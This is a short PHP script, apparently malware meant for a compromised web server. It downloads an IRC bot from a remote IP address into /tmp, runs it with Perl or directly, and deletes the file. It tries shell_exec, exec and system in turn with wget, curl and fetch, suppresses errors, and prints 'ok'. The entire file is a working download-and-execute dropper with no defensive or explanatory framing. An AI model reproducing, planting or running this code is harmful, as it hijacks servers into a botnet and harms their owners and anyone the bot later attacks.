<?php
// pulls an IRC bot into /tmp and starts it, trying every command function the host allows
$u = 'http://198.51.100.44/x/';
@shell_exec('cd /tmp;wget ' . $u . 'b.txt -O .b;perl .b;rm -f .b');
@exec('cd /tmp;curl -s -o .b ' . $u . 'b.txt;perl .b;rm -f .b');
@system('cd /tmp && fetch ' . $u . 'b.txt && chmod +x b.txt && ./b.txt');
echo 'ok';
